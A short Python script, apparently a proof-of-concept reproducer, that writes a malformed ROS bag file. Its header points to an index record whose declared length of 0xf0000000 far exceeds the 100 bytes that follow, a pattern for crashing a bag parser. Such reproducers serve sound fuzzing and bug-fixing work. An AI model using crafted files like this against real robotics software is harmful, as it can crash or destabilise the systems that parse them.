import struct
hdr=b''
def f(k,v): 
    x=k+b'='+v; return struct.pack('<I',len(x))+x
h=f(b'op',b'\x03')+f(b'index_pos',struct.pack('<Q',4117))+f(b'conn_count',struct.pack('<I',1))+f(b'chunk_count',struct.pack('<I',0))
rec=struct.pack('<I',len(h))+h+struct.pack('<I',4096-len(h))+b' '*(4096-len(h))
d=b'#ROSBAG V2.0\n'+rec
d=d.ljust(4117,b' ')
d+=struct.pack('<I',0xf0000000)+b'x'*100
open('b.bag','wb').write(d)
